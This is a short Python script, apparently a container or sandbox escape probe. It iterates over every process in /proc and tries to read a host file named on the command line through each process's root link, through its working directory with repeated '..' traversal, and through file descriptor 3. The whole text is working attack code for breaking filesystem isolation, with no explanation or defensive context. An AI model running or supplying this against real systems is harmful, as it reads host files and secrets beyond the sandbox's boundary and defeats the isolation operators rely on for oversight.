"""Read a file of the host through the roots and working directories of other processes: `PATH`."""

import contextlib
import sys
from pathlib import Path

print("trying", flush=True)
up = "/.." * 12
for entry in Path("/proc").iterdir():
    for way in ("root", f"cwd{up}", f"fd/3{up}"):
        with contextlib.suppress(OSError):
            print(Path(f"{entry}/{way}{sys.argv[1]}").read_text())
